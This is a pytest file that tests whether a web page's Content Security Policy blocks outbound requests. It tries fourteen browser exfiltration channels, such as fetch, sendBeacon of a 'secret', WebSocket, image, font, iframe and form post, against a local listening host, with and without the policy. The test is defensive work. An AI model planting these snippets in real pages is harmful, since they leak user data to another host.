"""A page can send nothing: every way out is tried against a host that listens, with and without the policy."""

from __future__ import annotations

from typing import TYPE_CHECKING

import pytest

if TYPE_CHECKING:
    from playwright.sync_api import Browser

    from tests.site.serving import Served, Sink

pytestmark = pytest.mark.slow

WAYS = {
    "worker": "new Worker(URL.createObjectURL(new Blob([`fetch('${out}').catch(() => null)`])))",
    "fetch": "fetch(out).catch(() => null)",
    "beacon": "navigator.sendBeacon(out, 'secret')",
    "image": "new Image().src = out",
    "socket": "try { new WebSocket(out.replace('http:', 'ws:')) } catch {}",
    "script": "add('script', {src: out})",
    "prefetch": "add('link', {rel: 'prefetch', href: out})",
    "stylesheet": "add('link', {rel: 'stylesheet', href: out})",
    "background": "document.body.style.backgroundImage = `url(${out})`",
    "font": "new FontFace('out', `url(${out})`).load().catch(() => null)",
    "frame": "add('iframe', {src: out})",
    "object": "add('object', {data: out})",
    "video": "add('video', {src: out})",
    "form": "add('form', {action: out, method: 'post', target: 'frame'}).submit()",
}
ATTEMPT = """out => {
  const add = (name, values) => {
    const node = Object.assign(document.createElement(name), values)
    document.body.append(node)
    return node
  }
  add('iframe', {name: 'frame'})
  %s
}"""


PAGES = pytest.mark.parametrize("address", ["", "playground/"], ids=["home", "playground"])


def _reached(address: str, browser: Browser, served: Served, sink: Sink, *, without_policy: bool) -> set[str]:
    """Return the ways by which a page reached another host."""
    with browser.new_context(bypass_csp=without_policy) as context:
        page = context.new_page()
        page.goto(served.below + address)
        for way, attempt in WAYS.items():
            page.evaluate(ATTEMPT % attempt, f"{sink.origin}/{way}")
        page.wait_for_timeout(1500)
    return sink.asked


@PAGES
def test_nothing_leaves_a_page(address: str, browser: Browser, served: Served, sink: Sink) -> None:
    assert _reached(address, browser, served, sink, without_policy=False) == set()


def test_without_the_policy_every_way_is_open(browser: Browser, served: Served, sink: Sink) -> None:
    assert _reached("", browser, served, sink, without_policy=True) == set(WAYS)
